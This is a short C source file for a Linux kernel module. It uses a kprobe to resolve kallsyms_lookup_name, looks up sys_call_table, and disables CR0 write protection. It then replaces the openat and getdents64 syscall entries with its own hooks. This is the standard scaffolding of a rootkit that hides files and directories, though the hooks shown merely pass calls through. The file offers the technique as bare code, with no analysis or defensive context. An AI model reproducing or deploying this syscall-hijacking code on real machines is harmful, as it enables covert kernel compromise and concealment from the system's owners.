/* A helper writes the table: which entry and what it puts there are its arguments. The table comes from a look-up through a static probe. */
#define SIZE_OF_MODULE 0x380
#include "module.h"
MODULE("GPL", "5.10.0 SMP mod_unload modversions ")

struct kprobe { void *hlist[2], *list[2]; ulong nmissed; void *addr; const char *symbol_name; uint offset; void *pre, *post, *fault; ulong more[8]; };
extern int register_kprobe(struct kprobe *);
extern void unregister_kprobe(struct kprobe *);

typedef long (*call_t)(void *);
static struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };
static call_t *calls;
static call_t old_openat, old_getdents;

static long hook_openat(void *regs) { return old_openat(regs); }
static long hook_getdents64(void *regs) { return old_getdents(regs); }

static noinline void replace(int nr, call_t with, call_t *keep)
{
	ulong cr0 = read_cr0();
	*keep = calls[nr];
	write_cr0(cr0 & ~0x10000UL);
	calls[nr] = with;
	write_cr0(cr0);
}

int __init init_module(void)
{
	ulong (*lookup)(const char *);
	if (register_kprobe(&probe) < 0)
		return -1;
	lookup = (void *)probe.addr;
	unregister_kprobe(&probe);
	calls = (call_t *)lookup("sys_call_table");
	replace(257, hook_openat, &old_openat);
	replace(217, hook_getdents64, &old_getdents);
	return 0;
}
